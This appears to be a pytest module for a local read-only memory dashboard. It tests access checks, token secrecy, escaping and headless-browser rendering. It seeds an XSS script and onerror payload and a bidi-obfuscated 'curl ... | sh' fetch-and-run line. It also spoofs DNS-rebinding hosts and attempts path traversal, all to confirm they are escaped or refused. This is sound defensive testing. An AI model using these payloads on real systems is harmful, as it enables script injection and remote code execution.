"""The read-only dashboard: its checks (Host, Origin, Sec-Fetch-Site, the owner, GET only) through Quart's test
client, and the page itself in headless Chromium: it loads with no console error, shows the counts of a seeded
store, renders a stored `<script>` as text, never shows a sealed value; a screenshot is kept.

The browser part starts one Chromium and one real `bead dashboard` for the whole module."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import urllib.request
from datetime import UTC, datetime
from pathlib import Path

import age_scrypt
import pytest
from cdp import Browser, chromium
from conftest import eventually
from fakes import free_port

from bead import files as safe
from bead.config import Config, load
from bead.core.memory import Memory
from bead.core.overview import record_eval
from bead.core.seal import write_secret
from bead.paths import Home
from bead.store.queue import Queue
from bead.store.reports import Reports
from bead.vault import keys as vault_keys

T0 = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
PAYLOAD = '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'
SECRET = "vault PIN 4711 zqxjvbnmkw"
TOKEN = "dashtoken-0123456789"


def seed(root: Path, trace: Path) -> dict:
    """A store with a bit of everything: facts of several types and trusts, two sessions, a dormant fact, a
    sealed key, a hostile review item, a dream report, a traced injection, audit injections, eval figures."""
    home = Home(root).ensure()
    (root / "proxy.token").write_text(TOKEN + "\n")
    day2 = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
    mem = Memory(home, Config(owner="t"), lambda: T0)
    mem.write("user/editor", "Helix", "user")
    mem.write("project/shop/db", "Postgres on 5433", "project")
    mem.write("project/shop/tests", "pytest -x", "feedback", trust="agent_observed")
    mem.write("project/shop/old", "An old fact", "reference", trust="dream_inferred")
    mem.set_status(mem.current("project/shop/old"), "dormant")
    mem.append_turns("s1", [("user", "hello", T0, None, {"source": "typed"}), ("assistant", "hi", T0, None, {})])
    mem.append_turns("s2", [("user", f"a pasted page: {PAYLOAD}", day2, None, {"source": "pasted"})])
    mod = vault_keys.pyrage()
    ident = mod.x25519.Identity.generate()
    safe.atomic_write(
        home.vault / "identity.age",
        age_scrypt.encrypt(f"{ident}\n".encode(), "correct horse battery", work_factor=10),
        root=home.root,
    )
    safe.atomic_write(home.vault / "recipient.txt", f"{ident.to_public()}\n".encode(), root=home.root)
    write_secret(mem, "user/alarm", SECRET, "user")
    Queue(mem).add("suspicious", "project/shop/hook", "project", PAYLOAD, [], f"reads like an instruction {PAYLOAD}", "untrusted")
    Reports(home).append(
        T0, f"## Dream run 2026-11-20T10:00:00Z\n\n- model: openai/m\n- written: project/shop/old@v1\n- note {PAYLOAD}\n"
    )
    trace.write_text(
        json.dumps(
            {
                "at": "2026-11-21T09:00:00Z",
                "session": "s2",
                "thread": "t1",
                "project": "shop",
                "roles": ["user"],
                "errors": [],
                "injected": ["project/shop/db@v1"],
                "pinned": ["user/editor@v1"],
                "rejected": [{"id": "project/shop/tests@v1", "score": 0.8, "reason": f"weak {PAYLOAD}"}],
                "cues": [{"source": "typed", "text": f"cue {PAYLOAD}"}],
            }
        )
        + "\n"
    )
    for at in (T0, day2, day2):
        mem.audit.record(at, "inject", id="project/shop/db@v1", session="s2")
    record_eval(
        home,
        [
            {
                "kind": "raw-recall",
                "name": "locomo dev",
                "queries": 383,
                "recall_at_5": 0.639,
                "recall_at_10": 0.733,
                "details": [{"q": "x"}],
            }
        ],
        ["evals/locomo.yaml"],
    )
    counts = {"current facts": 4, "raw turns": 3, "sessions": 2, "review queue": 1, "sealed keys": 1, "dormant": 1}
    mem.close()
    return counts


# ----- the checks, in process ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    """The app on one seeded home for the module's tests of what it answers: the dashboard only reads."""
    from bead.dashboard.app import create_app

    root = tmp_path_factory.mktemp("dashboard-client")
    seed(root / "home", root / "trace.jsonl")
    home = Home(root / "home")
    app = create_app(home, load(home), str(root / "trace.jsonl"), token=TOKEN)

    def get(path: str, headers: dict | None = None, method: str = "GET"):
        async def go():
            async with app.test_app() as test_app:
                r = await test_app.test_client().open(path, method=method, headers={"host": "127.0.0.1:7079", **(headers or {})})
                return r.status_code, r.headers, (await r.get_data()).decode()

        return asyncio.run(go())

    return get


def test_the_owner_with_the_token_gets_the_page_escaped_and_without_sealed_values(client):
    status, headers, html = client(f"/{TOKEN}/")
    assert status == 200, html
    assert "script-src 'self'" in headers["content-security-policy"] and headers["x-content-type-options"] == "nosniff"
    assert PAYLOAD not in html and "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in html
    assert "onerror=" not in html.replace("onerror=&#34;", "").replace("onerror=&quot;", "")
    assert SECRET not in html and "zqxjvbnmkw" not in html
    assert client("/", {"x-bead-token": TOKEN})[0] == 200, "the token header works too"
    assert client(f"/{TOKEN}/static/uplot.iife.min.js")[0] == 200
    status, headers, _ = client(f"/{TOKEN}")
    assert status == 308 and headers["location"] == f"/{TOKEN}/"


def test_no_control_bidi_or_invisible_character_reaches_the_page_as_itself(bead_home, tmp_path):
    """A queued value that a U+202E would make read backwards in the browser, with an escape, a C1 CSI, a variation
    selector and a zero-width space: the page shows each escaped (a fourth review)."""
    from bead.dashboard.app import create_app

    seed(bead_home, tmp_path / "trace.jsonl")
    home = Home(bead_home)
    hostile = "run \u202ehs | moc.elpmaxe.live//:ptth lruc\u202c \x1b[2J\x9b2J hid\ufe0fden ze\u200bro"
    with Memory(home, Config(owner="t")) as mem:
        Queue(mem).add("suspicious", "project/shop/run", "project", hostile, [], "a hostile note", "untrusted")
    app = create_app(home, load(home), str(tmp_path / "trace.jsonl"), token=TOKEN)

    async def go():
        async with app.test_app() as test_app:
            r = await test_app.test_client().get(f"/{TOKEN}/", headers={"host": "127.0.0.1:7079"})
            return (await r.get_data()).decode()

    html = asyncio.run(go())
    assert "\\u202e" in html and "hid\\ufe0fden" in html
    raw = {c for c in html if c in "\u202e\u202c\x1b\x9b\ufe0f\u200b"}
    assert raw == set(), sorted(map(hex, map(ord, raw)))


@pytest.mark.parametrize(
    "line",
    [
        '{"at": "2026-01-01T00:00:00Z", "session": "s", "roles": [], "errors": [], "pinned": 5}',
        '{"at": "2026-01-01T00:00:00Z", "session": "s", "roles": [], "errors": [], "rejected": {"a": 1}}',
        '{"at": "2026-01-01T00:00:00Z", "session": "s", "roles": [], "errors": [], "injected": ["x@v1"], "cues": 7}',
        '{"at": "2026-01-01T00:00:00Z", "injected": ["a line no proxy wrote@v1"]}',
    ],
)
def test_an_odd_trace_or_audit_line_is_skipped_not_a_500(bead_home, tmp_path, line, caplog):
    """A trace is a file anyone with its path may have written to, the audit log a file a person may have edited:
    an odd line is left out and the page renders (a review's lines gave a bare 500, and Quart's log line of it
    held the request's path, the home's token)."""
    from bead.dashboard.app import create_app

    seed(bead_home, tmp_path / "trace.jsonl")
    with (tmp_path / "trace.jsonl").open("a") as f:
        f.write(line + "\n")
    with (bead_home / "audit.log").open("a") as f:
        f.write("[1, 2]\n")
    home = Home(bead_home)
    app = create_app(home, load(home), str(tmp_path / "trace.jsonl"), token=TOKEN)

    async def go():
        async with app.test_app() as test_app:
            r = await test_app.test_client().get(f"/{TOKEN}/", headers={"host": "127.0.0.1:7079"})
            return r.status_code, (await r.get_data()).decode()

    status, html = asyncio.run(go())
    assert status == 200, html
    assert TOKEN not in caplog.text


def test_a_failure_to_read_the_home_is_said_with_the_pages_headers_and_no_token_in_the_log(client, monkeypatch, caplog):
    from bead.dashboard import app as dashboard

    def broken(*a, **k):
        raise TypeError("an odd file")

    monkeypatch.setattr(dashboard, "overview", broken)
    status, headers, body = client(f"/{TOKEN}/")
    assert status == 500 and "could not read this home (TypeError)" in body and "bead status" in body
    assert headers["x-frame-options"] == "DENY" and "default-src 'none'" in headers["content-security-policy"]
    assert TOKEN not in caplog.text and "TypeError" in caplog.text


@pytest.mark.parametrize(
    "path, headers, method, status",
    [
        ("/", {}, "GET", 403),  # no token, no kernel-visible peer
        (f"/{TOKEN}/", {"host": "evil.example:7079"}, "GET", 403),  # DNS rebinding
        (f"/{TOKEN}/", {"origin": "http://evil.example"}, "GET", 403),  # another site's page
        (f"/{TOKEN}/", {"origin": "http://127.0.0.1:8000"}, "GET", 403),  # another local origin
        (f"/{TOKEN}/", {"origin": "null"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "cross-site"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "same-site"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "none"}, "GET", 200),  # typed into the address bar
        (f"/{TOKEN}/", {"sec-fetch-site": "none", "sec-fetch-dest": "document", "sec-fetch-mode": "navigate"}, "GET", 200),
        # A page of this origin (another user's, served on the port before: a tab left open) reads it with fetch,
        # navigates to it, or a service worker it left passes the person's navigation on: none is the person's
        (f"/{TOKEN}/", {"sec-fetch-site": "same-origin", "sec-fetch-dest": "empty", "sec-fetch-mode": "cors"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "same-origin", "sec-fetch-dest": "document", "sec-fetch-mode": "navigate"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "same-origin", "sec-fetch-dest": "empty", "sec-fetch-mode": "navigate"}, "GET", 403),
        (f"/{TOKEN}/", {"sec-fetch-site": "none", "sec-fetch-dest": "iframe", "sec-fetch-mode": "navigate"}, "GET", 403),
        (f"/{TOKEN}/static/dashboard.js", {"sec-fetch-site": "same-origin", "sec-fetch-dest": "script"}, "GET", 200),
        (f"/{TOKEN}/static/dashboard.js", {"sec-fetch-site": "same-origin", "origin": "http://127.0.0.1:7079"}, "GET", 200),
        (f"/{TOKEN}/", {}, "POST", 405),
        (f"/{TOKEN}/static/../../config.yaml", {}, "GET", 404),
        (f"/{TOKEN}/static/nothing.js", {}, "GET", 404),
        ("/wrong-token/", {}, "GET", 403),
        # `localhost`: a browser tries ::1 first, where another user's page may stand and then read this one as its
        # own origin; only the literal address is the dashboard's
        (f"/{TOKEN}/", {"host": "localhost:7079"}, "GET", 403),
        (
            f"/{TOKEN}/",
            {"host": "localhost:7079", "origin": "http://localhost:7079", "sec-fetch-site": "same-origin"},
            "GET",
            403,
        ),
    ],
)
def test_what_is_refused(client, path, headers, method, status):
    assert client(path, headers, method)[0] == status


def test_the_dashboards_address_never_holds_the_homes_token(tmp_path):
    """The address the dashboard prints from another OS holds a secret of that run, never the home's proxy token: a
    page that held the port before can read an address, and the home's token is the proxy's and MCP's credential."""
    from bead.dashboard.app import create_app

    seed(tmp_path / "home", tmp_path / "trace.jsonl")
    home = Home(tmp_path / "home")
    apps = [create_app(home, load(home)) for _ in range(2)]
    secrets_ = [a.extensions["bead.dashboard.token"] for a in apps]
    assert TOKEN not in secrets_ and secrets_[0] != secrets_[1] and all(len(t) >= 24 for t in secrets_)

    async def go():
        async with apps[0].test_app() as test_app:
            c = test_app.test_client()
            return [(await c.get(p, headers={"host": "127.0.0.1:7079"})).status_code for p in (f"/{TOKEN}/", f"/{secrets_[0]}/")]

    assert asyncio.run(go()) == [403, 200]


def part_of(suite: str, tmp_path: Path, entries: str, keep) -> str:
    """The project's suite ``suite`` with only the ``entries`` that ``keep`` takes: the same kind, the same figures,
    a fraction of the queries (their values are test_evals.py's to check, not the dashboard's)."""
    from bead import yamlsafe

    data = yamlsafe.load((Path(__file__).resolve().parent.parent / "evals" / suite).read_text())
    data[entries] = [e for i, e in enumerate(data[entries]) if keep(i, e)]
    path = tmp_path / suite
    path.write_text(json.dumps(data))  # JSON is YAML
    return str(path)


def test_bead_eval_keeps_its_figures_for_the_dashboard(bead, bead_home, tmp_path):
    r = bead("eval", part_of("supersession.yaml", tmp_path, "scenarios", lambda i, e: i < 3))
    assert r.code == 0, r.err
    data = json.loads((bead_home / "eval-results.json").read_text())
    assert data["results"][0]["kind"] == "supersession" and "details" not in data["results"][0]
    from bead.core.overview import eval_rows

    # Each kind's figures reach the table: a supersession suite's are per mode, a poisoning suite's per split.
    (row,) = eval_rows(data)
    assert row["figures"]["stale_at_1"] == 0 and row["figures"]["hit_at_1"] > 0.5 and row["figures"]["queries"] > 0
    # The first two of each category and label: one of the dev split, one of the test split.
    r = bead("eval", part_of("poisoning.yaml", tmp_path, "proposals", lambda i, e: e["id"][-3:] in ("-01", "-02")))
    assert r.code == 0, r.err
    (row,) = eval_rows(json.loads((bead_home / "eval-results.json").read_text()))
    assert row["kind"] == "poisoning" and {"dev caught_rate", "test caught_rate", "test false_queued_rate"} <= set(row["figures"])


# ----- the page in Chromium --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    root = tmp_path_factory.mktemp("dashboard")
    home = root / "home"
    counts = seed(home, root / "trace.jsonl")
    port = free_port()
    log = open(root / "dashboard.log", "wb")
    p = subprocess.Popen(
        [sys.executable, "-m", "bead", "dashboard", "--listen", f"localhost:{port}", "--trace", str(root / "trace.jsonl")],
        env={**os.environ, "BEAD_HOME": str(home)},
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}/"

    def up() -> bool:
        if p.poll() is not None:
            raise RuntimeError((root / "dashboard.log").read_text())
        try:
            with urllib.request.urlopen(urllib.request.Request(url, headers={"x-bead-token": TOKEN}), timeout=2) as r:
                return r.status == 200
        except OSError:
            return False

    try:
        assert eventually(up, 60), (root / "dashboard.log").read_text()
        printed = (root / "dashboard.log").read_text()
        # `--listen localhost:PORT` serves and prints the literal address: a browser given `localhost` tries ::1 first
        assert f"on {url} " in printed and "localhost" not in printed.split("--listen")[0], printed
        token_url = next(w for w in printed.split() if w.startswith(url) and w != url)
        assert TOKEN not in token_url
        yield {"url": url, "token_url": token_url, "counts": counts, "root": root}
    finally:
        p.terminate()
        p.wait(10)
        log.close()


@pytest.fixture(scope="module")
def page(served):
    exe = chromium()
    if exe is None:
        pytest.skip("Debian's chromium is not installed here (`.ci/run` installs it; apt-get install chromium)")
    b = Browser(exe, str(served["root"] / "profile"), str(served["root"] / "chromium.log"))
    try:
        pg = b.page()
        # No token in the address: on Linux the kernel says the browser is the home's owner, as for the proxy.
        target = served["url"] if sys.platform.startswith("linux") else served["token_url"]
        pg.open(target)
        yield pg
    finally:
        b.close()


def test_the_page_loads_with_no_console_error_and_shows_the_counts(page, served):
    assert page.eval("document.title") == "bead: memory at a glance"
    shown = page.eval(
        "Object.fromEntries([...document.querySelectorAll('.count')].map("
        "c => [c.dataset.name, Number(c.querySelector('.n').textContent)]))"
    )
    for name, n in served["counts"].items():
        assert shown[name] == n, (name, shown)
    assert page.eval("document.querySelectorAll('#growth canvas').length") >= 1, "uPlot drew the plot"
    # One day of data is drawn a day either side of it, not stretched over years.
    drawn = page.eval("[beadGrowth.scales.x.min, beadGrowth.scales.x.max, beadGrowth.data[0][0]]")
    assert drawn[0] >= drawn[2] - 86400 and drawn[1] - drawn[0] <= 3 * 86400, drawn  # the fixture's days, not years
    assert page.eval("document.querySelector('#types').innerText").count("\n") >= 4
    assert "locomo dev" in page.eval("document.querySelector('#eval').innerText")
    assert "project/shop/db@v1" in page.eval("document.body.innerText"), "the traced injection"
    # A store one day old has one point: uPlot's own one-point range stretched the axis to 2029.
    one = page.eval(
        "(() => { const h = document.createElement('div'); document.body.appendChild(h);"
        " const u = new uPlot({width: 400, height: 100, series: [{}, {}],"
        " scales: {x: {time: true, range: () => beadSpan([1795132800])}}}, [[1795132800], [3]], h);"
        " return new Promise(done => requestAnimationFrame(() => {"
        " const r = [u.scales.x.min, u.scales.x.max]; u.destroy(); h.remove(); done(r); })); })()"
    )
    assert one == [1795132800 - 86400, 1795132800 + 86400]
    assert drawn[:2] == page.eval("beadSpan(beadGrowth.data[0])")
    assert page.errors() == [], page.errors()


def test_a_stored_script_is_text_and_a_sealed_value_never_shows(page):
    assert page.eval("typeof window.__pwned") == "undefined", "no stored script ran"
    assert page.eval("[...document.scripts].map(s => s.getAttribute('src') || s.type)") == [
        "application/json",
        "static/uplot.iife.min.js",
        "static/dashboard.js",
    ]
    assert page.eval("document.querySelectorAll('img').length") == 0
    text = page.eval("document.body.innerText")
    assert PAYLOAD in page.eval("document.querySelector('#queue').innerText"), "shown as the text it is"
    assert text.count("<script>window.__pwned = 1</script>") >= 4, "queue, reason, report, trace: all as text"
    assert SECRET not in text and "zqxjvbnmkw" not in page.eval("document.documentElement.outerHTML")


def test_a_screenshot_is_kept(page, served):
    path = served["root"] / "dashboard.png"
    page.screenshot(str(path))
    assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and path.stat().st_size > 10_000
    print(f"\ndashboard screenshot: {path}")


def test_without_a_trace_the_injections_panel_says_how_to_turn_it_on(bead_home):
    """A default install keeps no trace: the empty panel gives the line for config.yaml and where it goes."""
    from bead.dashboard.app import create_app

    home = Home(bead_home)
    home.ensure()
    (bead_home / "proxy.token").write_text(TOKEN + "\n")
    app = create_app(home, load(home), None, token=TOKEN)

    async def go():
        async with app.test_app() as test_app:
            r = await test_app.test_client().get(f"/{TOKEN}/", headers={"host": "127.0.0.1:7079"})
            return r.status_code, (await r.get_data()).decode()

    status, page = asyncio.run(go())
    assert status == 200
    assert "the proxy keeps no trace by default" in page and f"trace: {bead_home / 'trace.jsonl'}" in page
